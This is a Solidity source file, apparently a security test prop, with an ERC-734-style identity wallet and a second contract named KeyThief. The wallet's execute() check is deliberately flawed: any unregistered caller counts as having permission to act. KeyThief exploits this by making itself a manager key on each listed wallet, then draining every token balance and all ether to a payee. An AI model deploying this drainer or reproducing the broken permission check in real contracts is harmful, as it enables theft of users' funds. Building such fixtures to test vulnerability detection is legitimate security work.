// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {Token} from "../props/Tokens.sol";

/// An account that is an identity, with keys in the manner of ERC-734: 1 manages, 2 acts. The smaller number may do more,
/// and a key that nobody added has the smallest.
contract IdentityAccount {
    struct Key {
        uint256 purpose;
        uint256 keyType;
    }

    uint256 public constant MANAGEMENT = 1;
    uint256 public constant ACTION = 2;

    mapping(bytes32 => Key) public keys;
    uint256 public executions;

    event KeyAdded(bytes32 indexed key, uint256 indexed purpose, uint256 indexed keyType);
    event KeyRemoved(bytes32 indexed key, uint256 indexed purpose, uint256 indexed keyType);
    event Executed(uint256 indexed executionId, address indexed to, uint256 indexed value, bytes data);

    constructor(address manager) {
        add(keyOf(manager), MANAGEMENT, 1);
    }

    function keyOf(address who) public pure returns (bytes32) {
        return keccak256(abi.encode(who));
    }

    function addKey(bytes32 key, uint256 purpose, uint256 keyType) external {
        require(msg.sender == address(this) || keys[keyOf(msg.sender)].purpose == MANAGEMENT, "not a manager");
        add(key, purpose, keyType);
    }

    function removeKey(bytes32 key) external {
        require(msg.sender == address(this) || keys[keyOf(msg.sender)].purpose == MANAGEMENT, "not a manager");
        emit KeyRemoved(key, keys[key].purpose, keys[key].keyType);
        delete keys[key];
    }

    function execute(address to, uint256 value, bytes calldata data) external returns (uint256 id) {
        require(keys[keyOf(msg.sender)].purpose <= ACTION, "may not act");
        (bool ok, bytes memory why) = to.call{value: value}(data);
        if (!ok) assembly { revert(add(why, 32), mload(why)) }
        id = executions++;
        emit Executed(id, to, value, data);
    }

    receive() external payable {}

    function add(bytes32 key, uint256 purpose, uint256 keyType) private {
        keys[key] = Key(purpose, keyType);
        emit KeyAdded(key, purpose, keyType);
    }
}

/// Makes itself a manager of identities, and has them pay.
contract KeyThief {
    function run(IdentityAccount[] calldata accounts, Token token, address payable payee) external {
        for (uint256 i = 0; i < accounts.length; i++) {
            IdentityAccount one = accounts[i];
            bytes32 own = one.keyOf(address(this));
            one.execute(address(one), 0, abi.encodeCall(IdentityAccount.addKey, (own, one.MANAGEMENT(), 1)));
            one.execute(address(token), 0, abi.encodeCall(Token.transfer, (payee, token.balanceOf(address(one)))));
            one.execute(payee, address(one).balance, "");
        }
    }
}
